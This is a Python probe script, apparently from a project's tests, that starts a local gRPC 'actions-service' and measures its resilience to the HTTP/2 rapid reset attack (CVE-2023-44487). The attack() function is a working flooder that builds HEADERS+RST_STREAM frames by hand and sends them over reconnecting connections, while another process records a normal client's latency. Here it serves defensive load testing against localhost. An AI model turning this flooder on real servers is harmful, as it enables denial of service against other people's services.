#!/usr/bin/env python
"""Rapid reset (CVE-2023-44487) against a real ``actions-service`` process: what a good
client's latency and the server's log look like while one client floods HEADERS+RST_STREAM.

Not a test (no assertions on timing); a probe that prints figures:

    python tests/connect_proto/rapid_reset_probe.py [--python PATH] [--seconds 5] [--rate N]

``--python`` picks the interpreter (and so the checkout) that runs the server, to compare
branches. The attacker uses 4 connections, 100 pairs per write, and reconnects whenever
the server closes a connection; the good client, a process of its own, makes one gRPC
health check at a time (10 ms apart) on its own connection.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import statistics
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import hpack
import trio

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
HEALTH = "/grpc.health.v1.Health/Check"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "x"),
    (":path", HEALTH),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def _pair(block: bytes, stream_id: int) -> bytes:
    headers = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x4]) + struct.pack(">I", stream_id)
    reset = b"\x00\x00\x04\x03\x00" + struct.pack(">I", stream_id) + struct.pack(">I", 8)
    return headers + block + reset


async def attack(port: int, stop: trio.Event, stats: dict[str, int], rate: float = 0) -> None:
    """One attacking connection at a time, reconnecting when closed; ``rate`` pairs a
    second at most (0: as fast as the socket takes them)."""
    block = hpack.Encoder().encode(HEADERS)
    started = trio.current_time()
    sent = 0
    while not stop.is_set():
        try:
            stream = await trio.open_tcp_stream("127.0.0.1", port)
        except OSError:
            await trio.sleep(0.01)
            continue
        stats["connections"] += 1
        closed = trio.Event()

        async def drain(stream: trio.SocketStream = stream, closed: trio.Event = closed) -> None:
            try:
                while await stream.receive_some(65536):
                    pass
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                pass
            closed.set()

        async with trio.open_nursery() as nursery:
            nursery.start_soon(drain)
            sid = 1
            try:
                await stream.send_all(PREFACE)
                while not stop.is_set() and not closed.is_set() and sid < 2**31 - 200:
                    if rate:
                        await trio.sleep_until(started + sent / rate)
                    chunk = b"".join(_pair(block, sid + 2 * i) for i in range(100))
                    sid += 200
                    await stream.send_all(chunk)
                    stats["pairs"] += 100
                    sent += 100
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                pass
            await stream.aclose()
            nursery.cancel_scope.cancel()


async def good_client(port: int, seconds: float) -> list[float]:
    latencies: list[float] = []
    with trio.move_on_after(seconds):
        await _good_calls(port, latencies)
    return latencies


async def _good_calls(port: int, latencies: list[float]) -> None:
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    await stream.send_all(conn.data_to_send())
    while True:
        sid = conn.get_next_available_stream_id()
        started = time.perf_counter()
        conn.send_headers(sid, HEADERS)
        conn.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
        await stream.send_all(conn.data_to_send())
        done = False
        while not done:
            data = await stream.receive_some(65536)
            if not data:
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                    done = True
                if isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            out = conn.data_to_send()
            if out:
                await stream.send_all(out)
        latencies.append((time.perf_counter() - started) * 1000)
        await trio.sleep(0.01)


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _summary(name: str, latencies: list[float]) -> str:
    if not latencies:
        return f"{name}: no call completed"
    cuts = statistics.quantiles(latencies, n=100) if len(latencies) > 1 else latencies * 99
    return (
        f"{name}: {len(latencies)} calls, p50 {statistics.median(latencies):.1f} ms, "
        f"p99 {cuts[98]:.1f} ms, max {max(latencies):.1f} ms"
    )


async def measure(port: int, seconds: float) -> list[float]:
    """The good client's latencies, from a process of its own."""
    argv = [sys.executable, __file__, "--good-client", str(port), "--seconds", str(seconds)]
    done = await trio.run_process(argv, capture_stdout=True)
    latencies: list[float] = json.loads(done.stdout)
    return latencies


async def main(python: str, seconds: float, rate: float) -> None:
    log = Path(tempfile.mkdtemp(prefix="rapid-reset-")) / "server.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(  # noqa: ASYNC220 (a probe: started once, before any I/O)
            [python, "-m", "actions.cli", "serve", "--port", "0", "--memory"],
            stdout=subprocess.DEVNULL,
            stderr=out,
            env={**os.environ, "PYTHONUNBUFFERED": "1"},
        )
    try:
        for _ in range(200):
            found = re.search(r"listening on http://127\.0\.0\.1:(\d+)", log.read_text())
            if found:
                break
            await trio.sleep(0.05)
        else:
            raise SystemExit(f"server did not start:\n{log.read_text()}")
        port = int(found.group(1))
        before = await measure(port, 2)
        cpu_before = _cpu_seconds(proc.pid)
        lines_before = len(log.read_text().splitlines())
        during: list[float] = []
        stats = {"pairs": 0, "connections": 0}
        stop = trio.Event()

        async def measure_during() -> None:
            during.extend(await measure(port, seconds))
            stop.set()

        async with trio.open_nursery() as nursery:
            nursery.start_soon(measure_during)
            await trio.sleep(0.3)  # the client process is up
            for _ in range(4):
                nursery.start_soon(attack, port, stop, stats, rate / 4)
        cpu = _cpu_seconds(proc.pid) - cpu_before
        text = log.read_text()
        lines = text.splitlines()[lines_before:]
        after = await measure(port, 2)
        print(_summary("good client before", before))
        print(_summary(f"good client during {seconds:g} s of attack", during))
        print(_summary("good client in the 2 s after", after))
        pairs, connections = stats["pairs"], stats["connections"]
        print(f"attacker: {pairs} HEADERS+RST_STREAM pairs sent, {connections} connections")
        print(f"server log lines during the attack: {len(lines)}")
        closing = sum("closing HTTP/2" in line for line in lines)
        print(f"  of them 'closing HTTP/2 connection': {closing}")
        print(f"server CPU during the attack: {cpu:.1f} s in {seconds:g} s")
        print(f"server still running: {proc.poll() is None}")
    finally:
        proc.terminate()
        proc.wait(30)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--python", default=sys.executable)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--rate", type=float, default=0, help="pairs/s in all (0: unlimited)")
    parser.add_argument("--good-client", type=int, metavar="PORT", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.good_client:
        print(json.dumps(trio.run(good_client, args.good_client, args.seconds)))
    else:
        trio.run(main, args.python, args.seconds, args.rate)
